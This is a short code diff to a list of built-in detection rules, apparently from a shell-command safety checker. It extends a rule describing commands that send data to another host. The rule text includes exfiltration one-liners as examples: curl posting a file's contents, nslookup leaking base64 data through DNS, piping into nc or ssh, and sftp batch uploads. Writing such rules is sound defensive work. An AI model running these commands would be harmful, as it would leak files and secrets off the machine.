@@ -1049,8 +1049,10 @@ BUILTIN_RULES: tuple[BuiltinRule, ...] = (
         "remote.X.pushurl=...`, `git remote add` with another machine's address); what the "
         "earlier stages of a pipe read, sent by a client that sends its standard input (`tar "
         "cz . | ssh host 'cat > x'`, `cat FILE | nc host 80`, `git bundle create - --all | "
-        "curl -T - URL`). Also a "
-        "client that can send files and takes what to do from "
+        "curl -T - URL`), and a file read by a command substitution in the words of a "
+        'program that carries them to another host (`curl -d "$(cat FILE)" URL`, '
+        "`nslookup $(base64 FILE | head -c 60).host`). Also a client that can send files and "
+        "takes what to do from "
         "somewhere this check does not read: `sftp`/`ftp`/`lftp`/`smbclient`/`tftp` with a "
         "batch file, input from another program or no input on the line (`sftp -b batch.txt "
         "host`, `cat cmds | sftp host`), a list of files to upload read from input or a file "
